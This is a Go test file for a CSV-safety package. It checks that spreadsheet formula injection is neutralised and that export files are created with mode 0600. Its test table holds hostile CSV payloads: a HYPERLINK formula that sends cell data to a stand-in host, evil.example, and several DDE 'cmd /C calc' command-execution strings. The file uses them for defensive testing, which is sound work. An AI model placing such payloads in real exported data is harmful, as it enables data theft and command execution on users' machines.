package csvsafe

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"runtime"
	"testing"
)

func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		// Formulas, each as a spreadsheet would run it, become text.
		`=HYPERLINK("http://evil.example/?"&A1,"Click")`: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
		"+cmd|' /C calc'!A0":                             "'+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0":                         "'-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0":                    "'@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1":                                         "'\t=1+1",
		"\r=1+1":                                         "'\r=1+1",
		"-":                                              "'-",
		"+":                                              "'+",
		"-1.":                                            "'-1.",
		"-.5":                                            "'-.5",
		"-1.2.3":                                         "'-1.2.3",
		// Plain numbers stay numbers: refunds, negative balances, a country code.
		"-12.99": "-12.99",
		"-1299":  "-1299",
		"+46":    "+46",
		"0.5":    "0.5",
		// Everything else is as it was.
		"":                     "",
		"Acme AB":              "Acme AB",
		"a=b":                  "a=b",
		" =1+1":                " =1+1",
		"ch_3Nx":               "ch_3Nx",
		"2026-11-26T14:00:00Z": "2026-11-26T14:00:00Z",
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestWriter(t *testing.T) {
	record := []string{"cus_1", "=1+1", "-5.00"}
	t.Run("guards every cell and leaves the caller's record alone", func(t *testing.T) {
		var b bytes.Buffer
		w := NewWriter(&b, false)
		if err := w.Write(record); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		got, err := csv.NewReader(&b).Read()
		if err != nil || got[1] != "'=1+1" || got[0] != "cus_1" || got[2] != "-5.00" {
			t.Fatalf("read back %q, %v", got, err)
		}
		if record[1] != "=1+1" {
			t.Error("the caller's record was changed")
		}
	})
	t.Run("raw writes the cells as they are", func(t *testing.T) {
		var b bytes.Buffer
		w := NewWriter(&b, true)
		_ = w.Write(record)
		w.Flush()
		if b.String() != "cus_1,=1+1,-5.00\n" {
			t.Fatalf("raw output %q", b.String())
		}
	})
}

func TestCreate(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("Windows has no Unix modes")
	}
	dir := t.TempDir()
	t.Run("a new file is 0600", func(t *testing.T) {
		f, err := Create(filepath.Join(dir, "new.csv"))
		if err != nil {
			t.Fatal(err)
		}
		f.Close()
		if fi, _ := os.Stat(f.Name()); fi.Mode().Perm() != 0o600 {
			t.Fatalf("mode %v", fi.Mode().Perm())
		}
	})
	t.Run("an existing 0644 file is truncated and made 0600", func(t *testing.T) {
		path := filepath.Join(dir, "old.csv")
		if err := os.WriteFile(path, []byte("old data that must go"), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(path, 0o644); err != nil { // whatever the umask
			t.Fatal(err)
		}
		f, err := Create(path)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = f.WriteString("id\n")
		f.Close()
		fi, _ := os.Stat(path)
		data, _ := os.ReadFile(path)
		if fi.Mode().Perm() != 0o600 || string(data) != "id\n" {
			t.Fatalf("mode %v, content %q", fi.Mode().Perm(), data)
		}
	})
}
